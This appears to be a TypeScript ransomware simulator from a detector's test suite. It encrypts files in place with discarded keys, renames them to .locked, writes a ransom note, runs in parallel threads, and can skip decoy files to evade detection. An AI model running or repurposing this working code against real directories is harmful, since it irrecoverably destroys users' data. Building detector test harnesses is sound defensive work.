// A ransomware simulator for the ransomware module's tests and benchmark (run as a child process:
// `node simulator.ts --root DIR [--threads N] [--skip-decoy-names] [--wait] [--linger]`).
//
// It does what file-encrypting ransomware does on Linux: walks the tree in directory order
// (readdir through libuv returns names in byte order), reads each file, encrypts it with
// AES-256-CTR under a fresh key (node:crypto), overwrites it in place, renames it to NAME.locked
// and drops a ransom note in each directory it finished. Errors (a denied open) are skipped, as
// real ransomware does: only a kill stops it. With --threads N, N worker threads share the
// directories. --skip-decoy-names skips dotfiles and names starting with '~' (a family that avoids
// hidden files, so only the behavioural detector can stop it). Prints `start EPOCH_MS` before the
// first file and `done FILES MS` at the end; --wait waits for a line on stdin before starting,
// --linger stays alive after finishing (so a kill can be observed whatever the timing).
import { createCipheriv, randomBytes } from 'node:crypto';
import { readdirSync, readFileSync, renameSync, writeFileSync, writeSync } from 'node:fs';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { isMainThread, parentPort, Worker, workerData } from 'node:worker_threads';

interface Job {
  dirs: string[];
  skipDecoyNames: boolean;
}

function encryptDir(dir: string, skipDecoyNames: boolean): number {
  let n = 0;
  let names: string[];
  try {
    names = readdirSync(dir, { withFileTypes: true }).filter((d) => d.isFile()).map((d) => d.name);
  } catch {
    return 0;
  }
  const key = randomBytes(32);
  for (const name of names) {
    if (name.endsWith('.locked') || name === 'HOW_TO_DECRYPT.txt') continue;
    if (skipDecoyNames && (name.startsWith('.') || name.startsWith('~'))) continue;
    const path = join(dir, name);
    try {
      const plain = readFileSync(path);
      const iv = randomBytes(16);
      const c = createCipheriv('aes-256-ctr', key, iv);
      writeFileSync(path, Buffer.concat([iv, c.update(plain), c.final()]));
      renameSync(path, `${path}.locked`);
      n++;
    } catch {
      // denied or gone: next file
    }
  }
  try {
    writeFileSync(join(dir, 'HOW_TO_DECRYPT.txt'), 'Your files are encrypted. Send 1 BTC to recover them.\n');
  } catch {
    // read-only
  }
  return n;
}

/** Every directory under root, depth first in byte order (the order a recursive readdir walk visits them). */
function listDirs(root: string): string[] {
  const out: string[] = [];
  const walk = (dir: string) => {
    out.push(dir);
    let subs: string[];
    try {
      subs = readdirSync(dir, { withFileTypes: true }).filter((d) => d.isDirectory()).map((d) => d.name);
    } catch {
      return;
    }
    for (const s of subs) walk(join(dir, s));
  };
  walk(root);
  return out;
}

if (!isMainThread) {
  const job = workerData as Job;
  parentPort?.once('message', () => {
    let n = 0;
    for (const d of job.dirs) n += encryptDir(d, job.skipDecoyNames);
    parentPort?.postMessage(n);
  });
  parentPort?.postMessage('ready');
} else {
  const { values } = parseArgs({
    options: {
      root: { type: 'string' },
      threads: { type: 'string', default: '1' },
      'skip-decoy-names': { type: 'boolean', default: false },
      wait: { type: 'boolean', default: false },
      linger: { type: 'boolean', default: false },
    },
  });
  if (!values.root) {
    console.error('usage: simulator.ts --root DIR [--threads N] [--skip-decoy-names] [--wait] [--linger]');
    process.exit(2);
  }
  const root = values.root;
  const threads = Math.max(1, Number(values.threads));
  const skipDecoyNames = values['skip-decoy-names'];
  if (values.wait) {
    writeSync(1, 'ready\n');
    await new Promise<void>((resolve) => process.stdin.once('data', () => resolve()));
    process.stdin.pause();
  }
  const dirs = listDirs(root);
  // workers are started before the clock: thread start-up is not encryption time
  const workers: Worker[] = [];
  if (threads > 1) {
    for (let t = 0; t < threads; t++) {
      workers.push(new Worker(new URL(import.meta.url), { workerData: { dirs: dirs.filter((_, i) => i % threads === t), skipDecoyNames } satisfies Job }));
    }
    await Promise.all(workers.map((w) => new Promise((resolve) => w.once('message', resolve))));
  }
  const t0 = performance.timeOrigin + performance.now();
  writeSync(1, `start ${t0}\n`);
  let files = 0;
  if (threads === 1) for (const d of dirs) files += encryptDir(d, skipDecoyNames);
  else {
    const counts = await Promise.all(
      workers.map((w) => {
        const done = new Promise<number>((resolve, reject) => w.once('message', resolve).once('error', reject));
        w.postMessage('go');
        return done;
      }),
    );
    files = counts.reduce((a, b) => a + b, 0);
  }
  writeSync(1, `done ${files} ${performance.timeOrigin + performance.now() - t0}\n`);
  if (values.linger) await new Promise(() => setInterval(() => undefined, 60_000));
}
